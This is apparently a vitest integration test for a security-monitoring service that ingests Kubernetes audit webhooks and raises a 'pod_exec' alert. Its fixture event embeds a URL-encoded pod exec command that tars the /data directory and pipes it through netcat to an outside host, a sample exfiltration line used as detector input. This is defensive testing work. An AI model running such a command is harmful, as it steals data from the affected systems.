import { MemoryExporter } from '@outflow/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Service, startService } from '../src/app.js';

const token = 'example-token';
let service: Service;
const alerts = new MemoryExporter();

beforeAll(async () => {
  service = await startService({ token, exporters: [alerts], presetConfig: { organization: { accounts: ['111122223333'] } } });
});
afterAll(async () => {
  await service.close();
});

const post = (path: string, body: unknown, auth = token) =>
  fetch(`http://127.0.0.1:${service.port}${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${auth}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });

const execEvent = {
  kind: 'EventList',
  apiVersion: 'audit.k8s.io/v1',
  items: [
    {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'Metadata',
      auditID: '6f0b5d3e-1a2b-4c3d-9e8f-0a1b2c3d4e5f',
      stage: 'ResponseComplete',
      requestURI:
        '/api/v1/namespaces/payments/pods/api-7d4f9-x2k8p/exec?command=sh&command=-c&command=tar+czf+-+%2Fdata+%7C+nc+203.0.113.66+443&container=api&stdin=true&stdout=true',
      verb: 'create',
      user: { username: 'contractor@example.com', groups: ['system:authenticated'] },
      sourceIPs: ['198.51.100.7'],
      userAgent: 'kubectl/v1.29.3',
      objectRef: { resource: 'pods', namespace: 'payments', name: 'api-7d4f9-x2k8p', apiVersion: 'v1', subresource: 'exec' },
      responseStatus: { metadata: {}, code: 101 },
      requestReceivedTimestamp: new Date().toISOString(),
      stageTimestamp: new Date().toISOString(),
      annotations: { 'authorization.k8s.io/decision': 'allow' },
    },
  ],
};

describe('Outflow inside an Express service', () => {
  it('keeps the service routes working', async () => {
    const r = await fetch(`http://127.0.0.1:${service.port}/healthz`);
    expect(await r.json()).toEqual({ ok: true, pipeline: 'running' });
  });

  it('rejects webhooks without the token', async () => {
    const r = await post('/webhooks/k8s-audit', execEvent, 'wrong');
    expect(r.status).toBe(401);
  });

  it('accepts the audit webhook, answers 400 on garbage, and raises alerts for an exec piping an archive to netcat', async () => {
    const bad = await fetch(`http://127.0.0.1:${service.port}/webhooks/falco`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: '{not json',
    });
    expect(bad.status).toBe(400);
    const r = await post('/webhooks/k8s-audit', execEvent);
    expect(r.status).toBe(200);
    const deadline = Date.now() + 10_000;
    while (alerts.alerts.length === 0 && Date.now() < deadline) await new Promise((res) => setTimeout(res, 50));
    const ids = alerts.alerts.map((a) => a.detection.id);
    expect(ids).toContain('pod_exec');
    const exec = alerts.alerts.find((a) => a.detection.id === 'pod_exec');
    expect(exec?.evidence).toEqual([expect.objectContaining({ source: 'k8s_audit', id: '6f0b5d3e-1a2b-4c3d-9e8f-0a1b2c3d4e5f' })]);
  });
});
